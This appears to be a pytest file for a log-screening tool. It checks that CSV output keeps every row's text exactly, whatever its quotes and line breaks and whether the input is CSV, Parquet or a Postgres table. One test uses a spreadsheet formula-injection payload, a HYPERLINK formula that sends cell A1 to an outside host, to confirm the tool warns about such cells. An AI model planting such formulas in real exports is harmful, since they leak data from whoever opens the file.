"""Whatever signs a log holds, a CSV that is written gives back every row with its words to the letter, from any source."""

from __future__ import annotations

import csv
from collections.abc import Callable
from pathlib import Path

import psycopg
import pyarrow as pa
import pyarrow.parquet as pq

from tests.conftest import Database
from tests.screening.conftest import csv_rows

Screen = Callable[..., tuple[int, str]]
LOGS = [
    "he is strangling mum\rhe has a knife and the baby is in the cot",
    "kids crying\nthen quiet",
    "kids crying\r\nthen quiet",
    '"stop" she said, "the kids are here"',
    "\r",
    "bike taken\r",
    ' "\r,\n"\r\n, ',
    "=1+1",
    "bike taken",
]


def check(screen: Screen, folder: Path, source: object, *options: str) -> None:
    """Screen to CSV, and compare with what went in."""
    status, said = screen(source, folder / "out.csv", *options)
    assert status == 0, said
    rows = csv_rows(folder / "out.csv")
    assert [(row["ref"], row["text"]) for row in rows] == [(f"r{at}", text) for at, text in enumerate(LOGS)]
    assert rows[0]["gt_at_risk"] == "true"


def test_from_csv(screen: Screen, tmp_path: Path) -> None:
    with (tmp_path / "in.csv").open("w", newline="") as file:
        csv.writer(file, quoting=csv.QUOTE_ALL).writerows(
            [
                ["ref", "text"],
                *([f"r{at}", text] for at, text in enumerate(LOGS)),
            ]
        )
    check(screen, tmp_path, tmp_path / "in.csv")


def test_from_parquet(screen: Screen, tmp_path: Path) -> None:
    pq.write_table(pa.table({"ref": [f"r{at}" for at in range(len(LOGS))], "text": LOGS}), tmp_path / "in.parquet")
    check(screen, tmp_path, tmp_path / "in.parquet")


def test_from_a_database(screen: Screen, fresh_database: Database, tmp_path: Path) -> None:
    with psycopg.connect(fresh_database.admin_url, autocommit=True) as made:
        made.execute("CREATE TABLE logs (ref text PRIMARY KEY, text text)")
        for at, text in enumerate(LOGS):
            made.execute("INSERT INTO logs VALUES (%s, %s)", [f"r{at}", text])
    check(screen, tmp_path, fresh_database.admin_url, "--table", "logs", "--key", "ref")


def test_what_looks_like_a_formula_is_left_as_it_is_and_told(screen: Screen, tmp_path: Path) -> None:
    formulas = ['=HYPERLINK("http://x/?"&A1,"open")', "+44 7700 900123", "-1 is what he said", "@mum"]
    pq.write_table(pa.table({"ref": range(4), "text": formulas}), tmp_path / "in.parquet")
    status, said = screen(tmp_path / "in.parquet", tmp_path / "out.csv")
    assert status == 0
    assert "cells may begin with = + - or @" in said
    assert "every column as text" in said
    assert [row["text"] for row in csv_rows(tmp_path / "out.csv")] == formulas
    assert "every column" not in screen(tmp_path / "in.parquet", tmp_path / "out.parquet")[1]


def test_lines_of_a_csv_end_alike_whatever_its_fields_hold(screen: Screen, tmp_path: Path) -> None:
    pq.write_table(pa.table({"ref": ["1", "2"], "text": ["bike\rtaken", "bike taken"]}), tmp_path / "in.parquet")
    assert screen(tmp_path / "in.parquet", tmp_path / "out.csv")[0] == 0
    assert (tmp_path / "out.csv").read_bytes().count(b"\r") == 1
